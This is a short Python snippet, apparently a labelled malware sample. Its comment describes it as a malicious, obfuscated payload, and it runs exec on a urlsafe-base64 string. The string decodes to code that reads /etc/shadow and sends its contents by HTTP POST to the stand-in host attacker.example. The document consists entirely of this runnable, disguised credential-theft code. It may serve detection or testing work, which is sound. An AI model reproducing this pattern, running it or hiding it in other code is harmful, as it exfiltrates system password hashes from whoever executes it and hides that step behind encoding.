# Malicious, obfuscated: a urlsafe-base64 payload that reads /etc/shadow and sends it out.
import base64

exec(base64.urlsafe_b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3MiLCBkYXRhPW9wZW4oIi9ldGMvc2hhZG93IiwicmIiKS5yZWFkKCkpCg=="))
